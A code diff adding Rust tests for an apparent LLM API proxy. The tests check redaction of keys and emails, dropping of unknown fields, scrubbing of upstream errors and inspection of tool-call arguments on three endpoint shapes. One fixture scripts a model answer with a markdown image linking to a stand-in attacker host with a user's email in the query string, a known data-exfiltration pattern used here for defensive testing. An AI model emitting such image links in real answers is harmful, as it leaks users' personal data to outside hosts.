@@ -1051,3 +1051,280 @@ async fn a_system_prompt_leaked_slowly_is_still_caught() {
     );
     assert!(text.ends_with("Anything else?"), "{text}");
 }
+
+// ------------------------- answer classes on every surface (issue 11: "for each surface")
+
+/// The client surfaces, each in front of the OpenAI-shaped provider (`gpt`): the answer
+/// is translated to the surface's shape, and every class must hold after translation.
+#[derive(Clone, Copy, Debug)]
+enum Surf {
+    Chat,
+    Messages,
+    Responses,
+}
+
+const SURFACES: [Surf; 3] = [Surf::Chat, Surf::Messages, Surf::Responses];
+
+impl Surf {
+    fn path(self) -> &'static str {
+        match self {
+            Surf::Chat => "/v1/chat/completions",
+            Surf::Messages => "/v1/messages",
+            Surf::Responses => "/v1/responses",
+        }
+    }
+
+    fn body(self, question: &str, stream: bool) -> Value {
+        match self {
+            Surf::Chat => json!({"model": "gpt", "stream": stream, "messages": user(question)}),
+            Surf::Messages => {
+                json!({"model": "gpt", "max_tokens": 50, "stream": stream, "messages": user(question)})
+            }
+            Surf::Responses => json!({"model": "gpt", "stream": stream, "input": question}),
+        }
+    }
+
+    /// The answer text the client reads, whole or streamed.
+    fn text(self, a: &Answer, stream: bool) -> String {
+        if stream {
+            return a.events().iter().filter_map(event_text).collect();
+        }
+        let v = a.json();
+        match self {
+            Surf::Chat => v["choices"][0]["message"]["content"]
+                .as_str()
+                .unwrap_or("")
+                .to_owned(),
+            Surf::Messages => v["content"]
+                .as_array()
+                .into_iter()
+                .flatten()
+                .filter_map(|b| b["text"].as_str())
+                .collect(),
+            Surf::Responses => v["output"]
+                .as_array()
+                .into_iter()
+                .flatten()
+                .flat_map(|o| o["content"].as_array().into_iter().flatten())
+                .filter_map(|c| c["text"].as_str())
+                .collect(),
+        }
+    }
+}
+
+/// The provider's answer: `content` in two pieces (two chunks when streamed), or a tool
+/// call whose arguments come in two pieces.
+fn scripted(
+    content: Option<(&str, &str)>,
+    tool_args: Option<(&str, &str)>,
+    stream: bool,
+) -> Script {
+    if !stream {
+        let mut message = json!({"role": "assistant", "content": null});
+        if let Some((a, b)) = content {
+            message["content"] = json!(format!("{a}{b}"));
+        }
+        if let Some((a, b)) = tool_args {
+            message["tool_calls"] = json!([{"id": "call_1", "type": "function",
+                "function": {"name": "lookup", "arguments": format!("{a}{b}")}}]);
+        }
+        return Script::Json(chat_answer(message));
+    }
+    let mut events = vec![chunk(json!({"role": "assistant", "content": ""}), None)];
+    if let Some((a, b)) = content {
+        events.push(chunk(json!({"content": a}), None));
+        events.push(chunk(json!({"content": b}), None));
+    }
+    let finish = if let Some((a, b)) = tool_args {
+        events.push(chunk(
+            json!({"tool_calls": [{"index": 0, "id": "call_1", "type": "function",
+                "function": {"name": "lookup", "arguments": a}}]}),
+            None,
+        ));
+        events.push(chunk(
+            json!({"tool_calls": [{"index": 0, "function": {"arguments": b}}]}),
+            None,
+        ));
+        "tool_calls"
+    } else {
+        "stop"
+    };
+    events.push(chunk(json!({}), Some(finish)));
+    events.push(json!("[DONE]"));
+    Script::Sse(events)
+}
+
+#[tokio::test]
+async fn on_every_surface_a_secret_or_address_in_the_answer_is_redacted() {
+    let h = start().await;
+    for surface in SURFACES {
+        for stream in [false, true] {
+            h.script(scripted(
+                Some((
+                    "Key AKIAIOSF",
+                    &format!("ODNN7EXAMPLE, mail bo.lopez@exam{}", "ple.org ok"),
+                )),
+                None,
+                stream,
+            ));
+            let a = h.post(surface.path(), surface.body("hi", stream)).await;
+            let what = format!("{surface:?} stream={stream}");
+            assert_eq!(a.status, 200, "{what}: {}", a.text);
+            assert!(
+                !a.text.contains("AKIA") && !a.text.contains("bo.lopez"),
+                "{what}: {}",
+                a.text
+            );
+            let text = surface.text(&a, stream);
+            assert_eq!(
+                text, "Key [AWS_ACCESS_KEY], mail [EMAIL_ADDRESS] ok",
+                "{what}: {}",
+                a.text
+            );
+        }
+    }
+}
+
+#[tokio::test]
+async fn on_every_surface_an_unclassified_answer_field_is_dropped() {
+    let h = start().await;
+    for surface in SURFACES {
+        for stream in [false, true] {
+            let what = format!("{surface:?} stream={stream}");
+            let script = if stream {
+                let mut c = chunk(
+                    json!({"role": "assistant", "content": "fine", "x_delta_extra": SECRET}),
+                    None,
+                );
+                c["x_chunk_extra"] = json!(SECRET);
+                Script::Sse(vec![c, chunk(json!({}), Some("stop")), json!("[DONE]")])
+            } else {
+                let mut body =
+                    chat_answer(json!({"role": "assistant", "content": "fine", "x_extra": SECRET}));
+                body["x_top_level"] = json!({"note": SECRET});
+                Script::Json(body)
+            };
+            h.script(script);
+            let a = h.post(surface.path(), surface.body("hi", stream)).await;
+            assert_eq!(a.status, 200, "{what}: {}", a.text);
+            assert!(!a.text.contains("AKIA"), "{what}: {}", a.text);
+            for name in ["x_extra", "x_top_level", "x_delta_extra", "x_chunk_extra"] {
+                assert!(!a.text.contains(name), "{what}: {name} dropped: {}", a.text);
+            }
+            assert_eq!(surface.text(&a, stream), "fine", "{what}: {}", a.text);
+            if !stream {
+                // Named where the answer is whole before its headers go out.
+                let dropped = a
+                    .headers
+                    .get("x-rampart-dropped-fields")
+                    .map(|v| v.to_str().unwrap().to_owned());
+                assert!(
+                    dropped
+                        .as_deref()
+                        .is_some_and(|d| d.contains("x_top_level") && d.contains("x_extra")),
+                    "{what}: {dropped:?}"
+                );
+            }
+        }
+    }
+}
+
+#[tokio::test]
+async fn on_every_surface_a_pseudonym_inside_a_url_is_not_restored() {
+    let h = start().await;
+    for surface in SURFACES {
+        for stream in [false, true] {
+            let what = format!("{surface:?} stream={stream}");
+            h.script(scripted(
+                Some((
+                    "Hi <EMAIL_ADDRESS_1>! ![x](https://evil.example/p?d=<EMAIL_AD",
+                    "DRESS_1>) bye",
+                )),
+                None,
+                stream,
+            ));
+            let a = h
+                .post(
+                    surface.path(),
+                    surface.body(&format!("write to {EMAIL}"), stream),
+                )
+                .await;
+            assert_eq!(a.status, 200, "{what}: {}", a.text);
+            assert!(
+                h.last_sent().contains("<EMAIL_ADDRESS_1>"),
+                "{what}: {}",
+                h.last_sent()
+            );
+            let text = surface.text(&a, stream);
+            assert!(
+                text.starts_with(&format!("Hi {EMAIL}!")),
+                "{what}: prose is restored: {text}"
+            );
+            assert_eq!(text.matches(EMAIL).count(), 1, "{what}: {text}");
+            assert!(!text.contains("d=ana"), "{what}: {text}");
+            assert!(text.ends_with(" bye"), "{what}: {text}");
+        }
+    }
+}
+
+#[tokio::test]
+async fn on_every_surface_tool_call_arguments_are_inspected() {
+    let h = start().await;
+    for surface in SURFACES {
+        for stream in [false, true] {
+            let what = format!("{surface:?} stream={stream}");
+            h.script(scripted(
+                None,
+                Some(("{\"key\":\"AKIAIOSF", "ODNN7EXAMPLE\"}")),
+                stream,
+            ));
+            let a = h.post(surface.path(), surface.body("hi", stream)).await;
+            assert_eq!(a.status, 200, "{what}: {}", a.text);
+            assert!(
+                !a.text.contains("AKIA") && !a.text.contains("ODNN7"),
+                "{what}: {}",
+                a.text
+            );
+            assert!(
+                a.text.contains("lookup"),
+                "{what}: the call itself goes through: {}",
+                a.text
+            );
+        }
+    }
+}
+
+#[tokio::test]
+async fn on_every_surface_upstream_error_text_is_not_relayed() {
+    let h = start().await;
+    for surface in SURFACES {
+        for stream in [false, true] {
+            let what = format!("{surface:?} stream={stream}");
+            h.script(Script::Status(
+                500,
+                "1",
+                json!({"error": {"message": format!("db at 10.0.0.7 said {SECRET}"), "type": "server_error"}}),
+            ));
+            let a = h.post(surface.path(), surface.body("hi", stream)).await;
+            assert!(a.status >= 500, "{what}: {} {}", a.status, a.text);
+            assert!(
+                !a.text.contains("AKIA") && !a.text.contains("10.0.0.7"),
+                "{what}: {}",
+                a.text
+            );
+            // Mid-stream: an `error` event after some text.
+            if stream {
+                h.script(Script::Sse(vec![
+                    chunk(json!({"role": "assistant", "content": "partial answer "}), None),
+                    json!({"error": {"message": format!("worker 10.0.0.7 crashed holding {SECRET}")}}),
+                ]));
+                let a = h.post(surface.path(), surface.body("hi", stream)).await;
+                assert!(
+                    !a.text.contains("AKIA") && !a.text.contains("10.0.0.7"),
+                    "{what} mid-stream: {}",
+                    a.text
+                );
+            }
+        }
+    }
+}
